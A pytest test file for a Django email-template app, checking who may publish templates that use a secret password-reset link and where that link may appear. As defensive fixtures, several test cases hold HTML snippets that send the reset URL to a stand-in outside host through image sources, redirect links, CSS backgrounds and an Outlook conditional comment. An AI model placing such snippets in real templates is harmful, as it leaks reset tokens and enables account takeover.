"""Who may publish texts that reach a secret, and where such a text may put it."""

from dataclasses import replace

import pytest

from templates_app.content.content import Content, Texts, Variable
from templates_app.library import publishing
from templates_app.library.publishing import LibraryError, PublishRefused
from templates_app.transfer.import_plan import ImportRefused
from templates_app.transfer.project_transfer import export_projects, import_projects
from tests.cases import case
from tests.conftest import signed_in
from tests.factories import make_user
from tests.templates_app.makers import make_part, make_template, saying

pytestmark = pytest.mark.django_db

LINK = Variable("reset_url", "url", sample="https://mail.example.com/reset/4-dg8k2p/", secret=True)
EDIT, EDIT_SECRET = "templates_app.edit_templates", "templates_app.edit_secret_templates"


def with_link(html: str) -> Content:
    return Content({"en": Texts("Reset", html, "{{ reset_url }}")}, "en", (LINK,))


GOOD = with_link('{% include "shop/footer" %}<p><a href="{{ reset_url }}">Set a new password</a> {{ reset_url }}</p>')


@pytest.fixture
def editor():
    return make_user("ed@example.com", EDIT)


@pytest.fixture
def trusted():
    return make_user("tess@example.com", EDIT, EDIT_SECRET)


@pytest.fixture
def reset(trusted):
    make_part()
    return make_template(key="reset", content=GOOD)


def test_who_may_only_edit_templates_publishes_nothing_that_reaches_a_secret(reset, editor):
    leaking = with_link(
        '<a href="{{ reset_url }}">x</a><img alt="" src="https://elsewhere.example/?u={{ reset_url }}">'
    )
    unflagged = replace(leaking, variables=(replace(LINK, secret=False),))
    for content in (leaking, unflagged):
        with case(content.has_secret), pytest.raises(LibraryError, match="templates with secrets"):
            publishing.publish(reset, editor, content, "", reset.published)
    footer = reset.project.documents.get(key="footer")
    with pytest.raises(LibraryError, match="templates with secrets"):
        publishing.publish(footer, editor, saying("<p>{{ reset_url }}</p>"), "", footer.published)


def test_who_may_only_edit_templates_imports_nothing_that_reaches_a_secret(reset, editor):
    (project,) = export_projects(["shop"], history=False)
    leaking = with_link("<p>{{ reset_url }}</p>")
    documents = [replace(one, content=leaking) if one.key == "reset" else one for one in project.documents]
    changed = [replace(project, documents=tuple(documents))]
    with pytest.raises(ImportRefused, match="templates with secrets"):
        import_projects(changed, editor)
    assert import_projects(changed, None)


def test_the_page_of_publishing_says_who_may(reset, editor):
    publishing.save_draft(reset, editor, with_link("<p>{{ reset_url }}</p>"), 0)
    form = {"note": "", "replaces": "1", "revision": "1"}
    response = signed_in(editor).post("/templates/shop/template/reset/publication/", form)
    assert response.status_code == 422
    assert "Only people who may edit templates with secrets" in response.content.decode()


def test_who_may_edit_templates_with_secrets_publishes_them(reset, trusted):
    changed = with_link('<p>Hello. <a href="{{ reset_url }}">Set a new password</a></p>')
    assert publishing.publish(reset, trusted, changed, "", reset.published).number == 2


def test_a_secret_stands_as_text_or_as_a_whole_link_and_nowhere_else(reset, trusted):
    for html in (
        '<img alt="" src="https://elsewhere.example/x?u={{ reset_url }}">',
        '<img alt="" src="https://elsewhere.example/x?u={{ reset_url|urlencode }}">',
        '<a href="https://elsewhere.example/?to={{ reset_url }}">Set a new password</a>',
        '<a href="{{ reset_url }}"></a>',
        '<p style="background:url({{ reset_url }})">x</p>',
        '<!--[if mso]><img src="https://elsewhere.example/{{ reset_url }}"><![endif]-->',
    ):
        with case(html), pytest.raises(PublishRefused) as refused:
            publishing.publish(reset, trusted, with_link(f"<p>x</p>{html}"), "", reset.published)
        assert any("lets its holder in" in problem.message for problem in refused.value.problems), html
